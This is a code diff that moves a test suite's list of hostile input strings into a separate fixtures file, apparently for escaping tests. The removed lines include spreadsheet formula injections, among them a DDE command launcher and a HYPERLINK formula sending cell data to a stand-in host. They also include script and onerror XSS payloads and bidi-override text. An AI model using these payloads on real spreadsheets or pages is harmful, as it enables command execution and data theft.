@@ -3,19 +3,8 @@
 // a title and a lead entity, and markup in header lines that findings quote.
 import { SEED_TEXT } from '../pipeline/helpers.js';
 
-export const HOSTILE = [
-  '=1+1',
-  '+SUM(A1:A9)',
-  '-2+3',
-  '@SUM(A1)',
-  '=HYPERLINK("http://evil.invalid/?x="&A1,"click")',
-  "=cmd|' /C calc'!A0",
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  'N'.repeat(5000),
-  '\u202eevil\u202c \u200fשלום\u200f',
-  '👩‍👩‍👧 Famiglie 🎉',
-];
+export { HOSTILE } from '../fixtures/hostile-strings.js';
+import { HOSTILE } from '../fixtures/hostile-strings.js';
 
 /** Markup that must reach the page only as text: each put into a line a finding quotes. */
 export const MARKUP = [
